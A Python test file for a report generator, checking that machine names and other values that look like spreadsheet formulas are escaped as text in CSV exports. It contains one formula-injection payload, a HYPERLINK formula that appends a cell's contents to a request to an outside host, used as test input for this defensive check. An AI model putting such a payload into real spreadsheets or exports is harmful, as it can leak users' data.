"""What others name their machines and devices is text in a spreadsheet, never a formula."""

from __future__ import annotations

import csv
import io

import pytest

from perfanalysis.promql import Sample
from reporter.analysis.report_data import ReportData
from reporter.asking.answers import Answers
from reporter.asking.price_queries import PRICE
from reporter.figures.table import Table
from reporter.formats.csv_table import csv_bytes
from reporter.language import ENGLISH
from reporter.settings.report import Config
from reporter.spreadsheet_cells import plain

EVIL = '=HYPERLINK("http://example.com/?"&A1)'


@pytest.mark.parametrize("text", [EVIL, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "="])
def test_what_a_spreadsheet_would_compute_is_marked_as_text(text: str) -> None:
    assert plain(text) == f"'{text}"


@pytest.mark.parametrize("value", ["", "web-1", "a=b", "'=1", -1.5, 0, None])
def test_the_rest_is_as_it_was(value: object) -> None:
    assert plain(value) is value


def read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def test_the_data_attached_to_a_figure_has_no_formula() -> None:
    table = Table(("machine", EVIL), [(EVIL, -1.5), (None, 2)])
    assert read(table.csv()) == [["machine", f"'{EVIL}"], [f"'{EVIL}", "-1.5"], ["", "2"]]


def test_the_csv_report_has_no_formula() -> None:
    samples = {PRICE: [Sample({"instance": EVIL, "=1": "x"}, 5.0, -1.0)]}
    answers = Answers((), {}, samples, {PRICE: "p"}, (), 0.0, 60.0, 15.0, 60.0, "", ())
    (_, row) = read(csv_bytes(ReportData(Config(), answers, ENGLISH)))
    assert (row[2], row[3], row[5]) == (f"'{EVIL}", "'=1=x", "-1.0")
